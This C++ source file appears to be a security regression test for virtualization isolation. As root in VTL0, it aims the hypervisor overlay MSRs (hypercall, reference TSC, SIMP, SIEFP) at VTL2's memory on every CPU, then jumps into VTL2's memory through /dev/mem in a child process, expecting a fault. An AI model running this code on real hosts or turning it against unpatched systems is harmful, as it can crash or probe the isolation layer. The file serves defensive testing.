// vtl0-attack: a VTL0 program that plays the attacker against VTL2 through
// the hypervisor's overlay pages (issue 9; review finding 1), as root in
// the stock kernel:
//   1. On every CPU (/dev/cpu/N/msr, the msr module), aim the hypercall
//      page, the reference TSC page, the SIMP and the SIEFP at VTL2's
//      pages (GPA 0x1000000 on: VTL2's image, absent from VTL0's e820).
//      Before the fix the loader wrote hypercall code, zeros and SynIC
//      messages there and VTL2 crashed. Every line this program prints
//      afterwards crosses hcl's COM1 emulation, so its output is itself
//      proof that VTL2 still runs. The MSRs are then put back.
//   2. Jump into VTL2's memory (a /dev/mem mapping of GPA 0x1000000,
//      executable) in a child process: the fault stays in VTL0 and kills
//      the child only.
// Prints "vtl0-attack: ..." lines; exit 0 when every step ran.
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstring>

namespace {

constexpr uint64_t kVtl2Gpa = 0x1000000;
constexpr uint32_t kMsrHypercall = 0x40000001;
constexpr uint32_t kMsrReferenceTsc = 0x40000021;
constexpr uint32_t kMsrSiefp = 0x40000082;
constexpr uint32_t kMsrSimp = 0x40000083;

bool ReadMsr(int fd, uint32_t msr, uint64_t& value) {
  return pread(fd, &value, sizeof value, msr) == static_cast<ssize_t>(sizeof value);
}

bool WriteMsr(int fd, uint32_t msr, uint64_t value) {
  return pwrite(fd, &value, sizeof value, msr) == static_cast<ssize_t>(sizeof value);
}

int AimAtVtl2(int cpu) {
  char path[64];
  std::snprintf(path, sizeof path, "/dev/cpu/%d/msr", cpu);
  const int fd = open(path, O_RDWR);
  if (fd < 0) return -1;
  const uint32_t msrs[] = {kMsrHypercall, kMsrReferenceTsc, kMsrSimp, kMsrSiefp};
  uint64_t saved[4] = {};
  int failures = 0;
  for (int i = 0; i < 4; ++i)
    if (!ReadMsr(fd, msrs[i], saved[i])) ++failures;
  for (int i = 0; i < 4; ++i)
    if (!WriteMsr(fd, msrs[i], (kVtl2Gpa + 0x1000u * static_cast<unsigned>(i)) | 1)) {
      std::printf("vtl0-attack: cpu%d: wrmsr %#x: %s\n", cpu, msrs[i], std::strerror(errno));
      ++failures;
    }
  std::printf("vtl0-attack: cpu%d: HYPERCALL, REFERENCE_TSC, SIMP, SIEFP aimed at VTL2 (%d "
              "failures)\n", cpu, failures);
  std::fflush(stdout);
  for (int i = 0; i < 4; ++i) (void)WriteMsr(fd, msrs[i], saved[i]);
  close(fd);
  return failures;
}

}  // namespace

int main() {
  setvbuf(stdout, nullptr, _IOLBF, 0);
  int cpus = 0, failures = 0;
  for (int cpu = 0; cpu < 64; ++cpu) {
    const int result = AimAtVtl2(cpu);
    if (result < 0) break;
    ++cpus;
    failures += result;
  }
  std::printf("vtl0-attack: aimed on %d CPUs, MSRs restored\n", cpus);

  const pid_t child = fork();
  if (child == 0) {
    const int fd = open("/dev/mem", O_RDONLY | O_SYNC);
    if (fd < 0) _exit(100);
    void* page = mmap(nullptr, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, fd, kVtl2Gpa);
    if (page == MAP_FAILED) _exit(101);
    reinterpret_cast<void (*)()>(page)();
    _exit(102);  // VTL2's code ran for VTL0: the isolation failed
  }
  int status = 0;
  waitpid(child, &status, 0);
  if (WIFSIGNALED(status))
    std::printf("vtl0-attack: jump into VTL2 memory: killed by signal %d\n", WTERMSIG(status));
  else
    std::printf("vtl0-attack: jump into VTL2 memory: exit %d\n", WEXITSTATUS(status));
  return cpus > 0 && failures == 0 && WIFSIGNALED(status) ? 0 : 1;
}
